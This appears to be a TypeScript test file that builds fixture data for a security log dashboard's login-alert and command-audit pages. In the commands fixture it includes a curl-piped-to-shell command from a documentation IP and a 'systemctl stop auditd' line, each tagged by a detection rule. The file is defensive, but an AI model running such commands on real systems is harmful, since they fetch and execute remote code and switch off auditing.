import { MS } from '@writ/kernel';
import { ago, frameAt, idOf, NOW, personId, PEOPLE } from '../../../ui/testing/company.ts';
import { judgePages } from '../../../ui/testing/judge-pages.ts';
import { CommandsPage, type CommandsPageProps } from '../commands/commands-page.tsx';
import type { ListedCommand } from '../commands/read-ran.ts';
import { AlertPage } from './alert-page.tsx';
import { LoginsPage, type LoginsPageProps } from './logins-page.tsx';
import type { LoginAlert } from './read-alerts.ts';
import { storedLine } from './testing-lines.ts';

const alert = (n: number, change: Partial<LoginAlert>): LoginAlert => ({
  id: idOf<'login-alert'>(n), kind: 'brute-force', address: '203.0.113.9', account: '', host: '', failed: 300, others: 3, firstAt: NOW - 40 * MS.minute, lastAt: NOW - 12 * MS.minute, raisedAt: ago(10, 'minute'),
  places: Array.from({ length: 6 }, (_, place) => `${NOW - 40 * MS.minute + place * 1_000}-7-${place}`), ...change,
});
const success = alert(1, { kind: 'success-after-failures', account: 'deploy', host: 'web-1.example.com' });
const newPlace = alert(2, { kind: 'new-place', account: 'ada', address: '2001:db8:85a3:8d3:1319:8a2e:370:7348', host: 'db-1.example.com', failed: 0, others: 2, lastAt: NOW - 3 * MS.hour });
const attacks = [
  alert(3, { kind: 'spraying', failed: 4_210, others: 211, address: '198.51.100.23' }), alert(4, {}), alert(5, { kind: 'distributed', account: 'root', address: '', failed: 912, others: 480 }), alert(6, { kind: 'flood', address: '', failed: 99_500, others: 0 }),
];
const answered = alert(7, { kind: 'brute-force', answer: { said: 'normal', at: ago(2, 'hour'), by: personId(1), reason: 'The scan that we ordered for November.' } });
const sums = ['root', 'deploy', 'ada', 'a-very-long-account-name-that-somebody-typed-in-place-of-a-password-and-that-has-no-end', ''].map((name, index) => ({
  name, failed: 4_210 - index * 900, accepted: index, accounts: 1, addresses: 480 - index * 90, hosts: 3, lastAt: ago(index + 1, 'hour'), lastPlace: index === 3 ? undefined : `${NOW}-7-${index}`,
}));
const logins: LoginsPageProps = {
  frame: frameAt('/logs/logins'), query: {}, view: 'account', entries: { alerts: [success, newPlace], total: 2 }, attacks: { alerts: attacks, total: 61 }, answered: [answered],
  logins: { sums, total: 412, failed: 104_822, accepted: 38, folded: 99_500 }, own: { failed: 3, passed: 41 }, behind: undefined,
};
const NOTHING = { alerts: [], total: 0 };
const lines = new Map(success.places.map((place, n) => [place, storedLine(`Nov 24 09:00:0${n} web-1 sshd[4${n}]: Failed password for deploy from 203.0.113.9 port 5002${n} ssh2`, NOW - 40 * MS.minute + n * 1_000, 'web-1.example.com')]));

const command = (change: Partial<ListedCommand>): ListedCommand => ({ digest: 'd', host: 'web-1.example.com', account: 'ada', asAccount: 'root', source: 'audit', command: 'systemctl status nginx', rules: [], success: true, times: 1, lastAt: ago(8, 'minute'), lastPlace: `${NOW}-7-1`, ...change });
const commands: CommandsPageProps = {
  frame: frameAt('/logs/commands'), query: {}, rules: new Map([['download-into-shell', { title: 'A download is run at once', level: 'high' }], ['audit-off', { title: 'What is logged or watched is switched off', level: 'critical' }]]), behind: undefined,
  hits: { commands: [command({ command: "sh -c 'curl http://198.51.100.9/install | sh'", rules: ['download-into-shell'] }), command({ command: 'systemctl stop auditd', rules: ['audit-off'], source: 'sudo' })], hasMore: true },
  listed: {
    commands: [
      command({}), command({ command: 'mysqldump --password=[REDACTED] customers', times: 40 }), command({ account: 'eve', asAccount: '', command: '/usr/bin/id', success: false, source: 'sudo' }), command({ account: '', command: 'ls' }),
      command({ account: 'grace', asAccount: '', command: `rm -rf ${'build/a-long-folder/'.repeat(20)}`, source: 'history' }), command({ source: 'others', account: '', command: '', times: 1_204, lastPlace: undefined }),
    ],
    hasMore: true,
  },
};

judgePages('logins', new Map<string, unknown>([
  ['logins', <LoginsPage {...logins} />],
  ['logins-host', <LoginsPage {...logins} frame={frameAt('/logs/logins?by=host&span=30d&account=root')} query={{ by: 'host', span: '30d', account: 'root' }} view="host" answered={[]} />],
  ['logins-none', <LoginsPage {...logins} entries={NOTHING} attacks={NOTHING} answered={[]} logins={{ sums: [], total: 0, failed: 0, accepted: 0, folded: 0 }} behind="What came in the last 3 h has not been read yet." />],
  ['alert', <AlertPage frame={frameAt('/logs/logins/alerts/1')} alert={success} lines={lines} nameOf={(id) => PEOPLE.get(id) ?? 'somebody'} mayAnswer />],
  ['alert-answered', <AlertPage frame={frameAt('/logs/logins/alerts/7')} alert={answered} lines={new Map()} nameOf={(id) => PEOPLE.get(id) ?? 'somebody'} mayAnswer />],
  ['commands', <CommandsPage {...commands} />],
  ['commands-none', <CommandsPage {...commands} hits={{ commands: [], hasMore: false }} listed={{ commands: [], hasMore: false }} behind={undefined} />],
]));

